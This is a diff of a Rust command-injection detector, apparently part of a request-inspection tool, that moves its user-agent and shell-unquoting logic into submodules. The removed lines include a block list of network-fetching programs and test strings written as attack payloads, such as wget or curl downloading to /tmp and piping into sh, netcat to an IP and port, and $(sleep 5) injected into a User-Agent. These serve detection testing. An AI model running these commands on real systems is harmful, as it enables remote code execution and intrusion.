@@ -1,20 +1,26 @@
 //! OS command injection: a separator and a program, substitutions, redirections, and the ways to
 //! spell them past a filter. A value is matched as it came and with a shell's quoting undone.
 
-use super::builds::{spies, takes_commands};
-use super::commands::PATTERNS;
+mod agents;
+mod lines;
+mod unquote;
+
+use super::builds::takes_commands;
 use super::detector::{Detector, Report};
 use super::patterns::REACH;
 use super::pipeline::is_query;
 use super::plain::is_plain;
-use super::prefilter::{is_agent, Hints, Marks};
+use super::prefilter::{Hints, Marks};
 use super::prose::{instructs, lists_words, without_code};
 use super::records::without_bars;
 use super::traversal::is_served;
 use super::words::Words;
 use super::{Family, Part};
-use crate::decode::{kind, percent, Value};
+use crate::decode::{kind, Value};
+use agents::is_client;
+use lines::PATTERNS;
 use memchr::memmem;
+use unquote::unquote;
 
 /// Rules that a program's name is most of, and the most that it is worth in a list of plain words.
 const NAMED: [&str; 5] = [
@@ -30,28 +36,6 @@ const LISTED: f32 = 0.3;
 const WORDS: usize = 3;
 /// Most that a command is worth then: just enough to refuse. The model has the last word.
 const TOLD: f32 = 0.5;
-
-/// Programs that fetch or run what they are given.
-const FETCHING: [&[u8]; 18] = [
-    b"bash",
-    b"curl",
-    b"ftp",
-    b"lynx",
-    b"nc",
-    b"ncat",
-    b"node",
-    b"nslookup",
-    b"perl",
-    b"php",
-    b"ping",
-    b"python",
-    b"python3",
-    b"ruby",
-    b"sh",
-    b"telnet",
-    b"tftp",
-    b"wget",
-];
 
 /// The detector of this family.
 pub struct CommandInjection;
@@ -80,12 +64,8 @@ impl Detector for CommandInjection {
             bytes: read,
             ..*value
         };
-        if (is_agent(value) || tells_agent(value)) && names_clients(value.bytes) {
-            // As a shell reads it, a word in pieces is one: `w""get`.
-            let plain = unquote(value.bytes);
-            if plain.is_none_or(|plain| names_clients(&plain)) {
-                return;
-            }
+        if is_client(value) {
+            return;
         }
         if takes_commands(value) || is_query(value.bytes) {
             report.doubt(&["command."], LISTED);
@@ -109,84 +89,6 @@ impl Detector for CommandInjection {
             PATTERNS.judge(value, &plain, report);
         }
     }
-}
-
-/// Tells a field of JSON that says from which client something came, as logs and measurements do.
-fn tells_agent(value: &Value<'_>) -> bool {
-    const NAMES: [&[u8]; 4] = [b"ua", b"user-agent", b"user_agent", b"useragent"];
-    let last = value.name.rsplit(|b| *b == b'.').next().unwrap_or_default();
-    value.part == Part::Json && NAMES.iter().any(|name| last.eq_ignore_ascii_case(name))
-}
-
-/// Tells a user agent of the usual kind: who writes one writes semicolons and programs' names too, but
-/// no folders, and nothing that a program would be given.
-fn names_clients(agent: &[u8]) -> bool {
-    const FOLDERS: [&[u8]; 4] = [b"/tmp/", b"/etc/", b"/dev/", b"/bin/"];
-    let mut pieces = agent.split(|b| matches!(b, b';' | b'&')).skip(1);
-    memchr::memchr3(b'{', b'|', b'`', agent).is_none()
-        && memmem::find(agent, b"$(").is_none()
-        && !FOLDERS.iter().any(|f| memmem::find(agent, f).is_some())
-        && !spies(agent)
-        && !pieces.any(is_given)
-}
-
-/// Programs that run the one that is named behind them.
-const RUNNING: [&[u8]; 6] = [b"busybox", b"env", b"exec", b"nohup", b"sudo", b"time"];
-
-/// Tells a name in small letters that is given an option or an address, `curl -o x`, or a program that is
-/// given a place, `sudo wget a.example/x`. Clients are named with their versions.
-fn is_given(mut piece: &[u8]) -> bool {
-    let named = |b: &&u8| b.is_ascii_lowercase() || b.is_ascii_digit();
-    loop {
-        piece = piece.trim_ascii_start();
-        let (name, rest) = piece.split_at(piece.iter().take_while(named).count());
-        let given = rest.trim_ascii_start();
-        if !name.first().is_some_and(u8::is_ascii_lowercase) || given.len() == rest.len() {
-            return false;
-        }
-        if given.starts_with(b"-")
-            || given.starts_with(b"http")
-            || FETCHING.contains(&name) && is_place(given)
-        {
-            return true;
-        }
-        if !RUNNING.contains(&name) {
-            return false;
-        }
-        piece = given;
-    }
-}
-
-/// Tells a path, a host, a file or an address at the start: `a.example/x`, `x.py`, `192.0.2.1 80`. No
-/// version is one, nor a product, `x/1.2`.
-fn is_place(given: &[u8]) -> bool {
-    let part = |b: &&u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_');
-    let (host, rest) = given.split_at(given.iter().take_while(part).count());
-    let last = host.rsplit(|b| *b == b'.').next().unwrap_or_default();
-    let dotted = last.len() < host.len();
-    let label = dotted && last.len() > 1 && last.iter().all(u8::is_ascii_alphabetic);
-    let path = match rest {
-        [b'/', first, ..] => !first.is_ascii_digit() || label,
-        [b'/'] => true,
-        _ => false,
-    };
-    path || label || is_number(host, rest)
-}
-
-/// Tells an address by its four numbers. Versions that have four end in nought, or have larger ones, or start
-/// with a small one and have nothing behind them that an address has.
-fn is_number(host: &[u8], behind: &[u8]) -> bool {
-    const VERSIONS: std::ops::Range<u8> = 0..32;
-    let text = std::str::from_utf8(host).unwrap_or_default();
-    let address: Result<std::net::Ipv4Addr, _> = text.parse();
-    let goes_on = matches!(
-        behind.trim_ascii_start(),
-        [b':' | b'/' | b'-' | b'0'..=b'9', ..]
-    );
-    address.is_ok_and(|address| {
-        let [first, .., last] = address.octets();
-        last != 0 && (goes_on || address.is_private() || !VERSIONS.contains(&first))
-    })
 }
 
 /// Tells a pattern for files below some folder, `bin/**/*`, which runs nothing where it stands alone.
@@ -224,80 +126,10 @@ fn is_told(text: &[u8]) -> bool {
     words.take_while(plain).take(WORDS).count() == WORDS
 }
 
-/// Undoes what a shell removes: backslashes and carets before letters, quotes within words, empty
-/// expansions; `$IFS` becomes a blank. `None` when there is nothing to undo.
-fn unquote(text: &[u8]) -> Option<Vec<u8>> {
-    memchr::memchr3(b'\\', b'^', b'$', text)
-        .or_else(|| memchr::memchr3(b'\'', b'"', b'`', text))?;
-    let mut out = Vec::with_capacity(text.len());
-    // What opens a block of code stays.
-    let mut at = if text.starts_with(b"```") { 3 } else { 0 };
-    out.extend_from_slice(&text[..at]);
-    let mut changed = false;
-    // Whether anything but signs was put out.
-    let mut begun = false;
-    let word = |b: Option<&u8>| b.is_some_and(u8::is_ascii_alphanumeric);
-    while at < text.len() {
-        let plain = text[at..].iter().take_while(|b| !is_sign(**b)).count();
-        let (run, rest) = text[at..].split_at(plain);
-        begun |= run.iter().any(u8::is_ascii_alphanumeric);
-        out.extend_from_slice(run);
-        at += plain;
-        let (take, put): (usize, Option<u8>) = match rest {
-            [] => break,
-            // A line end that is spelled out: at the start, behind what closes a string, at the end.
-            [b'\\', b'n' | b'r', ..] if rest.len() <= 3 || !begun => (2, Some(b'\n')),
-            [b'\\', b'\n', ..] => (2, None),
-            [b'\\', b'x', high, low, ..] if high.is_ascii_hexdigit() && low.is_ascii_hexdigit() => {
-                let code = percent::hex(&rest[2..4]).unwrap_or(0);
-                (4, Some(code as u8))
-            }
-            [b'\\' | b'^', next, ..] if next.is_ascii_alphabetic() => (1, None),
-            [b'$', b'{', b'I' | b'i', b'F' | b'f', b'S' | b's', ..] => {
-                let end = rest
-                    .iter()
-                    .take(16)
-                    .position(|b| *b == b'}')
-                    .map_or(5, |e| e + 1);
-                (end, Some(b' '))
-            }
-            [b'$', b'I' | b'i', b'F' | b'f', b'S' | b's', digit, ..] if digit.is_ascii_digit() => {
-                (5, Some(b' '))
-            }
-            [b'$', b'I' | b'i', b'F' | b'f', b'S' | b's', ..] => (4, Some(b' ')),
-            [b'$', b'@' | b'*' | b'!', ..] if word(out.last()) => (2, None),
-            [quote @ (b'\'' | b'"' | b'`'), next, ..]
-                if quote == next && (word(out.last()) || word(rest.get(2))) =>
-            {
-                (2, None)
-            }
-            [b'\'' | b'"', next, ..] if word(out.last()) && next.is_ascii_alphabetic() => (1, None),
-            _ => (1, Some(rest[0])),
-        };
-        changed |= put != Some(rest[0]);
-        begun |= put.is_some_and(|b| b.is_ascii_alphanumeric());
-        out.extend(put);
-        at += take;
-    }
-    changed.then_some(out)
-}
-
-/// Tells what may start a piece that a shell reads otherwise.
-fn is_sign(byte: u8) -> bool {
-    matches!(byte, b'\\' | b'^' | b'$' | b'\'' | b'"' | b'`')
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
     use crate::inspect::{patterns, testing::score, testing::score_at};
-
-    /// Looking back at all that was put out, for each, would take hours.
-    #[test]
-    fn what_is_unquoted_is_walked_once() {
-        let lines = unquote(&b"\\n".repeat(4 << 20));
-        assert!(lines.is_some_and(|l| l.len() == 4 << 20 && l.iter().all(|b| *b == b'\n')));
-    }
 
     #[test]
     fn commands_are_found() {
@@ -460,59 +292,6 @@ mod tests {
         ] {
             assert!(json(name, text) >= 0.5, "{text}");
         }
-    }
-
-    #[test]
-    fn clients_name_no_folders() {
-        let agent = |text: &str| score_at(&CommandInjection, Part::Header, b"User-Agent", text);
-        assert!(agent("x; wget http://a.example/a -O /tmp/a; sh /tmp/a") >= 0.5);
-        assert!(agent("a$(sleep 5)") >= 0.5);
-        assert!(agent("x;curl http://a.example/x -o y&&sh y") >= 0.5);
-        assert!(agent("x; wget -O y a.example") >= 0.5);
-        for text in [
-            "x;wget a.example/x",
-            "x;  wget\ta.example",
-            "curl/8.0;wget 192.0.2.1/x",
-            "x;nc 192.0.2.1 4444",
-            "x; ping 192.0.2.1",
-            "x&wget a.example/x.sh",
-            "x;python3 x.py",
-            "x;whoami",
-            "Mozilla/5.0 (X11; Linux x86_64); curl a.example",
-            "x; busybox wget http://a.example/x",
-            "x; sudo nohup wget a.example/x",
-            "x;w\"\"get http://a.example/x",
-            "x; curl 7.68.0.1:8000",
-            "x; wget 10.0.0.1",
-        ] {
-            assert!(agent(text) >= 0.5, "{text}");
-        }
-        for text in [
-            "curl/8.5.0; php; node",
-            "Guzzle/6.3; curl 7.68.0; php 7.4.3",
-            "Mozilla/5.0 (compatible; php 8.1; curl 8.5.0.0)",
-            "bot/1.0 (python 3.11; node 20.11.0; linux x86_64)",
-            "x; node curl/8.5.0",
-            "bot/1.0 (see a.example/bot; php 8.1)",
-            "check/2.1; host web-1.a.example",
-            "client; ruby 3.2.1p31; perl v5.34",
-            "Dalvik/2.1.0 (Linux; U; Android 9; ip phone)",
-            "sync; curl 7.68.0.1",
-            "sync - client; wget 1.21.3.4; sudo 1.9.5",
-            "sync's \"own\" client; curl 8.5",
-        ] {
-            assert!(agent(text) < 0.5, "{text}");
-        }
-    }
-
-    #[test]
-    fn documents_tell_of_clients() {
-        let json = |name, text| score_at(&CommandInjection, Part::Json, name, text);
-        let text = "Opera/9.80 (J2ME; Opera Mini/5.0 (Windows; U; more 9)); php 8.1";
-        assert!(json(b"context.userAgent", text) < 0.5);
-        assert!(json(b"context.userAgent", "x; node curl/8.5.0") < 0.5);
-        assert!(json(b"context.host", "x; node curl/8.5.0") >= 0.5);
-        assert!(json(b"context.userAgent", "x; php 8.1;curl a.example/x|sh") >= 0.5);
     }
 
     #[test]
